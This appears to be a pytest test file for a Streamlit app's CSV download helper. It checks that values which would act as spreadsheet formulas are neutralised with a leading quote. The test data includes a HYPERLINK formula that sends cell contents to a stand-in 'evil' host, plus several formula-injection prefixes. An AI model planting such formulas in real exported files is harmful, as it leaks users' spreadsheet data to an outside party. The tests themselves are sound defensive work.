"""Rows to take along."""

import ast
import csv
from pathlib import Path

import pandas as pd
import pytest

from pages.parts.download import as_cells, download_csv

PAGES = Path(__file__).parents[2] / "pages"
LINK = '=HYPERLINK("http://evil/?"&A1,"open")'


@pytest.mark.parametrize("text", [LINK, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_no_text_is_a_formula_to_a_spreadsheet(text: str) -> None:
    rows = as_cells([{"event": text, "reward": -0.5}])
    assert rows.to_dict("records") == [{"event": f"'{text}", "reward": -0.5}]


def test_what_is_taken_along_holds_no_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    taken: list[str] = []
    monkeypatch.setattr("streamlit.download_button", lambda _, made, **more: taken.append(made()))
    download_csv("Download", lambda: [{"event": LINK, "reward": -0.5}], key="csv", name="log")
    (text,) = taken
    assert list(csv.DictReader(text.splitlines())) == [{"event": f"'{LINK}", "reward": "-0.5"}]


def test_all_else_stays_as_it_is() -> None:
    frame = pd.DataFrame({"event": ["a-1", None], "chance": [0.25, 1.0], "is": [True, False]})
    assert as_cells(frame).to_csv() == frame.to_csv()


def test_no_table_on_a_page_which_has_a_download_of_its_own_shows_a_formula() -> None:
    trees = [ast.parse(path.read_text()) for path in PAGES.rglob("*.py")]
    calls = [node for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Call)]
    tables = [call for call in calls if ast.unparse(call.func).endswith(".dataframe")]
    assert len(tables) > 1
    shown = {ast.unparse(call.args[0]) for call in tables}
    assert {text for text in shown if not text.startswith("as_cells(")} == set()
